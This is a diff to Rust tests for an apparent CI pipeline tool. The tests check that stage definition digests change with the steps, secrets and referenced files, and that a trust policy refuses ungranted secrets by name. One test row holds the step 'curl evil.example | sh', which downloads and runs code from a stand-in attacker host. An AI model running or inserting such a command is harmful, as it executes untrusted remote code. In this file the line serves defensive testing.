@@ -775,8 +775,14 @@ fn the_definition_digest_covers_what_runs_and_nothing_else() {
     moved.environment = Some("staging".to_owned());
     assert_eq!(definition_digest(&moved), digest);
 
-    let changes: [fn(&mut Stage); 4] = [
+    let changes: [fn(&mut Stage); 8] = [
         |s| s.steps.push(step("curl evil.example | sh")),
+        // Row 10 of issue #12: a secret name added to the stage's environment.
+        |s| s.secrets.push("PROD_DB_PASSWORD".to_owned()),
+        // Row 9: a source file the stage names, or a change to one.
+        |s| s.uses.push(used("deploy.sh", 'a')),
+        |s| s.secrets.push("API_TOKEN".to_owned()),
+        |s| s.uses.push(used("k8s", 'b')),
         |s| s.notify.failure.push(step("echo failed")),
         |s| s.runtime.image = Some("alpine:3".to_owned()),
         |s| {
@@ -788,10 +794,33 @@ fn the_definition_digest_covers_what_runs_and_nothing_else() {
             })
         },
     ];
+    let mut digests = vec![digest.clone()];
     for change in changes {
         let mut changed = base.clone();
         change(&mut changed);
-        assert_ne!(definition_digest(&changed), digest);
+        digests.push(definition_digest(&changed));
+    }
+    // Every change gives a digest of its own.
+    let mut distinct = digests.clone();
+    distinct.sort();
+    distinct.dedup();
+    assert_eq!(distinct.len(), digests.len(), "{digests:#?}");
+
+    // The same `uses` path with other contents is another definition.
+    let mut old_script = base.clone();
+    old_script.uses = vec![used("deploy.sh", 'a')];
+    let mut new_script = base.clone();
+    new_script.uses = vec![used("deploy.sh", 'c')];
+    assert_ne!(
+        definition_digest(&old_script),
+        definition_digest(&new_script)
+    );
+}
+
+fn used(path: &str, fill: char) -> otto_pipeline::plan::Used {
+    otto_pipeline::plan::Used {
+        path: path.to_owned(),
+        sha256: format!("sha256:{}", fill.to_string().repeat(64)),
     }
 }
 
@@ -900,4 +929,63 @@ fn find(haystack: &[u8], needle: &[u8]) -> usize {
         .windows(needle.len())
         .position(|w| w == needle)
         .expect("needle present")
+}
+
+/// Issue #12, row 10: the secrets a foreign stage receives are the owner's decision. A
+/// secret its environment names that the policy does not give the org is refused with the
+/// secret's name, before the definition is looked at; one the policy names passes, and
+/// the approval then covers the secret names.
+#[test]
+fn a_secret_the_policy_does_not_give_is_refused_with_its_name() {
+    let mut world = World::new();
+    let deploy = world
+        .plan
+        .body
+        .stages
+        .iter_mut()
+        .find(|s| s.id == "Deploy")
+        .unwrap();
+    deploy.secrets = vec!["DEPLOY_KEY".to_owned(), "PROD_DB_PASSWORD".to_owned()];
+    let mut trust = world.ops_trust();
+    let names = ops_names();
+
+    // The default policy gives no secret at all.
+    let rejection = rejected(
+        check_with(&world, &trust, &world.offer(), NOW),
+        RejectCode::OutOfScope,
+        "may not use secret \"DEPLOY_KEY\"",
+    );
+    assert!(
+        rejection
+            .hint
+            .unwrap()
+            .contains("otto-node trust policy dev --secrets DEPLOY_KEY"),
+    );
+
+    // Giving one is not giving the other.
+    let policy = |secrets: &[&str]| otto_trust::Policy {
+        secrets: secrets.iter().map(|s| (*s).to_owned()).collect(),
+        ..World::policy()
+    };
+    trust.set_policy("dev", policy(&["DEPLOY_*"])).unwrap();
+    rejected(
+        check_with(&world, &trust, &world.offer(), NOW),
+        RejectCode::OutOfScope,
+        "may not use secret \"PROD_DB_PASSWORD\"",
+    );
+
+    // Both given: the offer passes, as its digest (which names both) is approved.
+    trust
+        .set_policy("dev", policy(&["DEPLOY_*", "PROD_DB_PASSWORD"]))
+        .unwrap();
+    let ctx = VerifyContext::new(&trust, &names);
+    verify_offer(world.signed(&world.offer()), &ctx, NOW).unwrap();
+
+    // The approval of the stage without the second secret does not cover it.
+    let mut fewer = world.plan.stage("Deploy").unwrap().clone();
+    fewer.secrets.pop();
+    assert_ne!(
+        definition_digest(&fewer),
+        definition_digest(world.plan.stage("Deploy").unwrap())
+    );
 }
